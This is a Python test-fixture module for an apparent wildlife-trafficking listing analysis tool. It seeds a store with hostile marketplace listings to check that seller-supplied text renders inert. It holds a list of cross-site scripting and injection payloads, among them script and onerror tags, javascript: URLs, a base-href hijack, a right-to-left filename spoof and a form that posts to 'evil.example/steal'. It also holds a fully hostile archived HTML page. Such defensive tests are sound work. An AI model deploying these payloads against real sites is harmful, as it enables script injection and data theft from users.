"""A corpus of hostile listing content, stored as listings (with matches, selectors, taxa, cues,
a network, a case and an archived page): what a seller can type must render inert on every page.

Every payload, if it ran, would either open a dialog (``alert``/``confirm``/``prompt``), set
``window.__pwned``, or make the browser ask a host other than 127.0.0.1 (``evil.example``).
"""

from __future__ import annotations

import hashlib
import io
from pathlib import Path
from typing import Any

from wildtrace.model import Analysis, Capture, Detection, Link, Listing, Match, Network, Selector, Taxon
from wildtrace.store import Store
from wildtrace.store.collections import ensure_collection

PLATFORM = "bazaar.example"
#: A platform name that is itself an attack (it ends up in URLs and headings).
EVIL_PLATFORM = '"><svg onload=alert(11)>'
RLO = "\u202e"

PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned = 1; alert(1)</script>",
    '<img src=x onerror="window.__pwned = 2; alert(2)">',
    '"><svg onload="alert(3)"><circle r=9></circle></svg>',
    "javascript:alert(4)",
    '<a href="javascript:alert(5)" id="js-link">click me</a>',
    "<svg><script>alert(6)</script><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<style>body{background:url(https://evil.example/css-bg.png)}</style>",
    '<div style="background-image:url(https://evil.example/inline-style.png)">styled</div>',
    '<link rel="stylesheet" href="https://evil.example/sheet.css">',
    '<iframe src="https://evil.example/frame"></iframe>',
    f"Ivory {RLO}gnp.exe{RLO} tusk {RLO}elas rof",
    "{{ 7 * 7 }} {% raw %}${7*7}",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
    '<img src="https://evil.example/pixel.gif">',
    '<base href="https://evil.example/">',
    "';alert(7);// \";alert(8);//",
    "</textarea></title><script>alert(9)</script>",
    '<form action="https://evil.example/steal"><button id="evil-button">go</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
)

HOSTILE_TEXT = " ⁂ ".join(PAYLOADS)
#: The words the detector "matched" (their offsets cut through the payloads' tags).
TERMS = ("ivory", "script", "onerror", "svg")


def _spans(text: str) -> tuple[Match, ...]:
    found: list[Match] = []
    folded = text.casefold()
    for term in TERMS:
        at = folded.find(term)
        while at >= 0 and len(found) < 40:
            found.append(Match(term, "text", at, at + len(term), "en", "ivory", "product"))
            at = folded.find(term, at + 1)
    # a span that crosses a tag boundary and one out of range: the page must clip both
    found.append(Match("<scr", "text", 0, 4, "en", "ivory", "product"))
    found.append(Match("beyond", "text", len(text) - 2, len(text) + 50, "en", None, "sale"))
    return tuple(found)


def write_warc(folder: Path, url: str, html: str) -> tuple[Path, int, str]:
    """A WARC holding one response record with ``html``; (file, offset, payload SHA-256)."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    body = html.encode("utf-8")
    path = folder / "hostile.warc.gz"
    with path.open("wb") as handle:
        writer = WARCWriter(handle, gzip=True)
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
        )
        record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers)
        offset = handle.tell()
        writer.write_record(record)
    return path, offset, hashlib.sha256(body).hexdigest()


def hostile_page() -> str:
    """An archived page made of every payload (inline, in attributes and in a script)."""
    parts = "".join(f"<p>{payload}</p>" for payload in PAYLOADS)
    return (
        "<!doctype html><html><head><title>Hostile</title>"
        "<script>window.__pwned = 'archived'; alert('archived')</script>"
        "<link rel=stylesheet href=https://evil.example/archived.css></head>"
        f"<body onload=\"alert('body')\"><h1>Archived ivory offer</h1>{parts}</body></html>"
    )


def store_hostile(
    store: Store, folder: Path, agency: str = "A", collection: str = "hostile"
) -> dict[str, Any]:
    """Store the corpus in ``collection`` (AMBER, owned by ``agency``): one listing per payload
    (the payload in every field), one holding them all with an archived page, one on a hostile
    platform; link them all into network ``hostile``. The listings' references and the network."""
    with store.write_transaction("make the hostile collection") as conn:
        collection_id = ensure_collection(conn, collection, agency, "AMBER")
    pairs: list[tuple[Listing, Analysis]] = []
    refs: list[str] = []
    warc, offset, sha256 = write_warc(folder, f"https://{PLATFORM}/item/h-all", hostile_page())
    for index, payload in enumerate((*PAYLOADS, HOSTILE_TEXT)):
        uid = f"h{index:02d}" if payload != HOSTILE_TEXT else "h-all"
        platform = EVIL_PLATFORM if index == 0 else PLATFORM
        text = f"ivory {payload} ivory"
        capture = (
            Capture(f"https://{PLATFORM}/item/h-all", sha256, "2026-11-02T10:00:00Z", "text/html", 200,
                    str(warc), offset)
            if uid == "h-all"
            else Capture(payload if payload.startswith("javascript:") else f"https://{PLATFORM}/item/{uid}",
                         hashlib.sha256(payload.encode()).hexdigest(), "2026-11-02T10:00:00Z", "text/html")
        )  # fmt: skip
        listing = Listing(
            id=uid,
            platform=platform,
            url=payload if payload.startswith("javascript:") else f"javascript:alert({100 + index})",
            seller=f"seller {payload}" if index % 2 else f"{RLO}seller-{index}",
            seller_info=payload,
            title=f"Ivory {payload}",
            text=text,
            price=f"{payload} 100 USD",
            location=payload,
            posted_at=f"2026-10-{1 + index % 28:02d}",
            images=(f"https://evil.example/photo-{index}.jpg", payload),
            capture=capture,
        )
        detection = Detection(
            score=0.99 - index / 100,
            flagged=True,
            commodities=("ivory",),
            taxa=(Taxon(f"Loxodonta {payload}", "I"),),
            matches=_spans(text),
            legality_cues=(f"cue {payload}",),
        )
        selectors = (
            Selector("phone", "+254700000099", "0700 000 099", "text", 0, 5),
            Selector("email", f"x{index}@evil.example", payload, "text", 0, 5),
            Selector("handle", payload, payload, "text", 0, 5),
        )
        pairs.append(
            (listing, Analysis(uid, detection, selectors, language="en", analyzer_version="hostile"))
        )
        refs.append(str(listing.key))
    store.save_batch(pairs, collection_id=collection_id)
    clusters = {ref: "hostile" for ref in refs}
    links = tuple(
        Link(refs[i], refs[i + 1], f"shares handle {PAYLOADS[i % len(PAYLOADS)]}", "handle", f"v{i}")
        for i in range(len(refs) - 1)
    )
    return {"refs": refs, "network": "hostile", "clusters": clusters, "links": links, "warc": warc}


def hostile_network(found: dict[str, Any], network: Network | None = None) -> Network:
    """The hostile network, merged with ``network`` (saving a network replaces the stored one)."""
    clusters = dict(network.clusters) if network else {}
    links = tuple(network.links) if network else ()
    clusters.update(found["clusters"])
    return Network(clusters=clusters, links=links + found["links"])
